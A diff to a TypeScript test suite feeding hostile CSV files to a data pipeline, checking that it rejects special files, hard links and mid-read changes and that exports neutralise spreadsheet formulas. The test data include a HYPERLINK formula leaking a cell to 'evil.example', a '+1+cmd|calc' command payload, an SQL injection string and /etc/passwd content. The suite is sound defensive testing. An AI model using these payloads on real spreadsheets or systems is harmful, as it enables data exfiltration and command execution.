@@ -11,12 +11,27 @@
  * loading the good set again restores production exactly.
  */
 import assert from 'node:assert/strict';
-import { cpSync, mkdtempSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import {
+  appendFileSync,
+  cpSync,
+  linkSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  renameSync,
+  rmSync,
+  symlinkSync,
+  truncateSync,
+  writeFileSync,
+} from 'node:fs';
+import { createServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import pg from 'pg';
-import { stageOptionsOf, type PipelineStage } from '../../libs/kernel/index.js';
+import { errorKind, stageOptionsOf, type PipelineStage } from '../../libs/kernel/index.js';
+import { AnalyticsStage } from '../../plugins/analytics/index.js';
 import { DataGenerationStage } from '../../plugins/data-generation/index.js';
 import { IngestionStage } from '../../plugins/ingestion/index.js';
 import { ProductionEtlStage } from '../../plugins/production-etl/index.js';
@@ -29,14 +44,23 @@ import { RUN_DATE, contentChecksums } from './harness.js';
 
 type Files = Record<string, string>;
 type Expected =
-  | { kind: 'rejected'; file: string; line: number | null; message?: RegExp }
+  | {
+      kind: 'rejected';
+      file: string;
+      line: number | null;
+      message?: RegExp;
+      /** Retrying may help (the file was being written); every other rejection is permanent. */
+      retryable?: boolean;
+      /** Text of the input that the error (which leaves the process) must not quote. */
+      unquoted?: string;
+    }
   | { kind: 'quarantined'; table: string; check: RegExp }
   | {
       kind: 'loads';
       outcome: string;
       /** The file holds the good data in another form: production must come out the same. */
       same?: boolean;
-      check?: (client: pg.Client) => Promise<void>;
+      check?: (client: pg.Client, exported: (query: string) => Promise<string>) => Promise<void>;
     };
 
 interface CsvCase {
@@ -46,6 +70,8 @@ interface CsvCase {
   readonly expected: Expected;
   /** Runs alongside ingestion (the file replaced while it is read). */
   readonly during?: (raw: string, data: string) => Promise<void>;
+  /** Runs when ingestion reaches this checkpoint (a file changed after it was opened). */
+  readonly atCheckpoint?: { readonly point: string; readonly act: (raw: string) => void };
 }
 
 const CONFIG = {
@@ -62,6 +88,10 @@ const STAGES: Array<new () => PipelineStage<never>> = [
 const SQL_TEXT = "'); DROP TABLE staging.customers; --";
 const WORLD = 'Zoë 🚀👩🏽‍💻 مرحبا שלום';
 const CONTROL = 'Tab\there\u0007\u001b[31m';
+/** The first line of /etc/passwd: the content of a file linked or copied in from elsewhere. */
+const PASSWD = 'root:x:0:0:root:/root:/bin/bash';
+const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
+const csvQuoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
 
 const lines = (text: string): string[] => text.split('\n');
 /** Replaces field `column` (0-based) of data row `row` (1-based, after the header). */
@@ -203,6 +233,162 @@ const CASES: readonly CsvCase[] = [
       symlinkSync(join(outside, 'customers.csv'), join(raw, 'customers.csv'));
     },
     expected: { kind: 'rejected', file: 'customers.csv', line: null, message: /outside the data folder/ },
+  },
+  {
+    name: 'named pipe (FIFO) as an input file',
+    mutate: (_f, raw) => {
+      rmSync(join(raw, 'customers.csv'));
+      execFileSync('mkfifo', [join(raw, 'customers.csv')]);
+    },
+    expected: { kind: 'rejected', file: 'customers.csv', line: null, message: /it is a named pipe \(FIFO\)/ },
+  },
+  {
+    name: 'socket as an input file',
+    mutate: (_f, raw) => {
+      rmSync(join(raw, 'products.csv'));
+      createServer().listen(join(raw, 'products.csv')).unref();
+    },
+    expected: { kind: 'rejected', file: 'products.csv', line: null, message: /it is a socket/ },
+  },
+  {
+    name: 'directory named like an input file',
+    mutate: (_f, raw) => {
+      rmSync(join(raw, 'transactions.csv'));
+      mkdirSync(join(raw, 'transactions.csv'));
+    },
+    expected: { kind: 'rejected', file: 'transactions.csv', line: null, message: /it is a directory/ },
+  },
+  {
+    name: 'symlink to a directory inside the data folder',
+    mutate: (_f, raw, data) => {
+      mkdirSync(join(data, 'a-folder'), { recursive: true });
+      rmSync(join(raw, 'transaction_items.csv'));
+      symlinkSync(join(data, 'a-folder'), join(raw, 'transaction_items.csv'));
+    },
+    expected: { kind: 'rejected', file: 'transaction_items.csv', line: null, message: /it is a directory/ },
+  },
+  {
+    name: 'hard link to a file outside the data folder (ln /etc/passwd raw/customers.csv)',
+    mutate: (_f, raw) => {
+      const outside = join(mkdtempSync(join(tmpdir(), 'outside-')), 'passwd');
+      writeFileSync(outside, `${PASSWD}\n`);
+      rmSync(join(raw, 'customers.csv'));
+      linkSync(outside, join(raw, 'customers.csv'));
+    },
+    expected: {
+      kind: 'rejected',
+      file: 'customers.csv',
+      line: null,
+      message: /it has 2 hard links/,
+      unquoted: 'root:x:0:0',
+    },
+  },
+  {
+    name: "another file's content as an input (the error quotes at most 10 characters of it)",
+    mutate: (_f, raw) => write(raw, 'customers.csv', `${PASSWD}\ndaemon:x:1:1:daemon:/usr/sbin:/bin/false\n`),
+    expected: {
+      kind: 'rejected',
+      file: 'customers.csv',
+      line: 1,
+      message: /unexpected column "root:x:0:0…"/,
+      unquoted: 'root:x:0:0:',
+    },
+  },
+  {
+    name: 'a secret-looking value in a date column (the error quotes an escaped excerpt)',
+    mutate: (f, raw) =>
+      write(raw, 'transactions.csv', setField(f['transactions.csv']!, 2, 2, 'hunter2\u001bsecret-token')),
+    expected: {
+      kind: 'rejected',
+      file: 'transactions.csv',
+      line: 3,
+      message: /column transaction_date: invalid input syntax for type date: "hunter2\\x1bse…"/,
+      unquoted: 'secret-token',
+    },
+  },
+  {
+    name: 'bare CR line ends (classic Mac OS) after the header',
+    mutate: (f, raw) => {
+      const [header, ...rows] = lines(f['customers.csv']!);
+      write(raw, 'customers.csv', `${header}\n${rows.join('\r')}`);
+    },
+    expected: {
+      kind: 'rejected',
+      file: 'customers.csv',
+      line: 2,
+      message: /carriage return \(CR\) without a line feed/,
+    },
+  },
+  {
+    name: 'one bare CR ending a line in the middle of the file',
+    mutate: (f, raw) => {
+      const a = lines(f['products.csv']!);
+      a[5] = `${a[5]}\r${a[6]}`;
+      a.splice(6, 1);
+      write(raw, 'products.csv', a.join('\n'));
+    },
+    expected: {
+      kind: 'rejected',
+      file: 'products.csv',
+      line: 6,
+      message: /carriage return \(CR\) without a line feed/,
+    },
+  },
+  {
+    name: 'bare CR line ends throughout, header included',
+    mutate: (f, raw) =>
+      write(raw, 'transaction_items.csv', f['transaction_items.csv']!.replaceAll('\n', '\r')),
+    expected: { kind: 'rejected', file: 'transaction_items.csv', line: 1, message: /carriage return/ },
+  },
+  {
+    name: 'file rewritten in place (same size) after ingestion opened it',
+    mutate: () => undefined,
+    atCheckpoint: {
+      point: 'ingestion:opened',
+      act: (raw) =>
+        writeFileSync(
+          join(raw, 'customers.csv'),
+          readFileSync(join(raw, 'customers.csv'), 'utf8').replace('CUST', 'CUSX'),
+        ),
+    },
+    expected: {
+      kind: 'rejected',
+      file: 'customers.csv',
+      line: null,
+      message: /changed while it was read \(modified\)/,
+      retryable: true,
+    },
+  },
+  {
+    name: 'file appended to while ingestion reads it',
+    mutate: () => undefined,
+    atCheckpoint: {
+      point: 'ingestion:opened',
+      act: (raw) =>
+        appendFileSync(
+          join(raw, 'transaction_items.csv'),
+          readFileSync(join(raw, 'transaction_items.csv'), 'utf8').split('\n')[1] + '\n',
+        ),
+    },
+    expected: {
+      kind: 'rejected',
+      file: 'transaction_items.csv',
+      line: null,
+      message: /changed while it was read \(size \d+ -> \d+ bytes, modified\)/,
+      retryable: true,
+    },
+  },
+  {
+    name: 'file truncated while ingestion reads it',
+    mutate: () => undefined,
+    atCheckpoint: { point: 'ingestion:opened', act: (raw) => truncateSync(join(raw, 'products.csv'), 200) },
+    expected: {
+      kind: 'rejected',
+      file: 'products.csv',
+      line: null,
+      message: /changed while it was read \(size \d+ -> 200 bytes, modified\)/,
+      retryable: true,
+    },
   },
   // --- the quality gate quarantines the row and closes ---
   {
@@ -356,6 +542,60 @@ const CASES: readonly CsvCase[] = [
     },
   },
   {
+    name: 'spreadsheet formula in a product name (=HYPERLINK(...))',
+    mutate: (f, raw) => write(raw, 'products.csv', setField(f['products.csv']!, 1, 1, csvQuoted(FORMULA))),
+    expected: {
+      kind: 'loads',
+      outcome: `loaded as written; the analytics exports neutralise it: "'${FORMULA}" (OWASP)`,
+      check: async (c, exported) => {
+        assert.equal(
+          await productionValue(
+            c,
+            `SELECT product_name AS v FROM production.products WHERE product_name = $1`,
+            [FORMULA],
+          ),
+          FORMULA,
+        );
+        const text = await exported('query8_product_profitability');
+        assert.ok(text.includes(csvQuoted(`'${FORMULA}`)), text.slice(0, 400));
+        assert.ok(!/(^|,)=HYPERLINK/m.test(text), 'no cell starts with the formula');
+      },
+    },
+  },
+  {
+    name: 'formulas starting with +, - and @ in product names and a brand',
+    mutate: (f, raw) => {
+      let text = setField(f['products.csv']!, 2, 1, '+1+cmd|calc');
+      text = setField(text, 3, 1, '-2+3');
+      text = setField(text, 4, 6, '@SUM(A1:A9)');
+      write(raw, 'products.csv', text);
+    },
+    expected: {
+      kind: 'loads',
+      outcome: "loaded as written; exported as '+1+cmd|calc, '-2+3 and '@SUM(A1:A9)",
+      check: async (_c, exported) => {
+        const text = await exported('query8_product_profitability');
+        for (const value of ["'+1+cmd|calc", "'-2+3", "'@SUM(A1:A9)"])
+          assert.ok(text.includes(`,${value},`), value);
+        // Numbers keep their sign: a negative profit is no formula.
+        assert.ok(!/(^|,)[+@=]/m.test(text) && !/(^|,)-[^0-9]/m.test(text), text.slice(0, 400));
+      },
+    },
+  },
+  {
+    name: 'a city starting with a tab and one starting with =',
+    mutate: (f, raw) =>
+      write(raw, 'customers.csv', setField(setField(f['customers.csv']!, 1, 6, '"\t=1+1"'), 2, 6, '=2+2')),
+    expected: {
+      kind: 'loads',
+      outcome: "loaded as written; the customer export shows them as '\\t=1+1 and '=2+2",
+      check: async (_c, exported) => {
+        const text = await exported('query7_customer_lifetime_value');
+        assert.ok(text.includes(",'\t=1+1,") && text.includes(",'=2+2,"), text.slice(0, 400));
+      },
+    },
+  },
+  {
     name: 'trailing blank lines',
     mutate: (f, raw) => write(raw, 'transactions.csv', f['transactions.csv']!.replace(/\n*$/, '\n\n\n\n')),
     expected: { kind: 'loads', outcome: 'loaded; the same rows as without the blank lines', same: true },
@@ -408,7 +648,10 @@ describe(
     const pristine = mkdtempSync(join(tmpdir(), 'hostile-csv-good-'));
     let goodProduction: Record<string, string>;
 
-    async function runStages(during?: () => Promise<void>): Promise<{ stage: string; error: string } | null> {
+    async function runStages(
+      during?: () => Promise<void>,
+      atCheckpoint?: CsvCase['atCheckpoint'],
+    ): Promise<{ stage: string; error: string; kind: string } | null> {
       for (const Stage of STAGES) {
         const stage = new Stage();
         const options = stageOptionsOf(Stage)!;
@@ -418,16 +661,31 @@ describe(
           runDate: RUN_DATE,
           dataDir: data,
         });
+        const checkpoint = async (point: string): Promise<void> => {
+          if (point === atCheckpoint?.point) atCheckpoint.act(raw);
+        };
         try {
           await Promise.all([
-            stage.run(ctx as never),
+            stage.run({ ...ctx, checkpoint } as never),
             Stage === (IngestionStage as never) && during ? during() : undefined,
           ]);
         } catch (error) {
-          return { stage: options.name, error: (error as Error).message };
+          return { stage: options.name, error: (error as Error).message, kind: errorKind(error) };
         }
       }
       return null;
+    }
+
+    /** Runs the analytics stage on what the stages loaded; the text of one of its exports. */
+    async function exported(query: string): Promise<string> {
+      const ctx = testContext(test.db, {
+        config: CONFIG,
+        stage: stageOptionsOf(AnalyticsStage) as never,
+        runDate: RUN_DATE,
+        dataDir: data,
+      });
+      await new AnalyticsStage().run(ctx as never);
+      return readFileSync(join(ctx.paths.analytics, `${query}.csv`), 'utf8');
     }
 
     function restoreRaw(): void {
@@ -472,7 +730,9 @@ describe(
         const before = await contentChecksums(client, ['production', 'warehouse']);
         const ids = await committedIds(client);
         c.mutate(good, raw, data);
-        const failure = await runStages(c.during ? () => c.during!(raw, data) : undefined);
+        const started = Date.now();
+        const failure = await runStages(c.during ? () => c.during!(raw, data) : undefined, c.atCheckpoint);
+        const seconds = (Date.now() - started) / 1000;
         let outcome: string;
         if (c.expected.kind === 'rejected') {
           assert.ok(failure, 'the run failed');
@@ -481,8 +741,12 @@ describe(
           if (c.expected.line !== null)
             assert.match(failure.error, new RegExp(`line ${c.expected.line}\\b`), failure.error);
           if (c.expected.message) assert.match(failure.error, c.expected.message);
+          // Not retried unless the world may change: a file being written. Never waited on.
+          assert.equal(failure.kind, c.expected.retryable ? 'retryable' : 'permanent', failure.error);
+          assert.ok(seconds < 20, `refused within seconds, not after ${seconds} s`);
+          if (c.expected.unquoted) assert.ok(!failure.error.includes(c.expected.unquoted), failure.error);
           assert.deepEqual(await contentChecksums(client, ['production', 'warehouse']), before);
-          outcome = `rejected: ${failure.error.replace(raw + '/', '').slice(0, 140)}`;
+          outcome = `rejected (${failure.kind}): ${failure.error.replace(raw + '/', '').slice(0, 140)}`;
         } else if (c.expected.kind === 'quarantined') {
           assert.ok(failure, 'the quality gate closed');
           assert.equal(failure.stage, 'quality-checks', failure.error);
@@ -499,7 +763,7 @@ describe(
           outcome = `quarantined (${[...new Set(rows.map((r) => r.check_name))].sort().join(', ')}); gate closed`;
         } else {
           assert.equal(failure, null, failure?.error);
-          await c.expected.check?.(client);
+          await c.expected.check?.(client, exported);
           if (c.expected.same)
             assert.deepEqual(await contentChecksums(client, ['production']), goodProduction);
           const after = await committedIds(client);
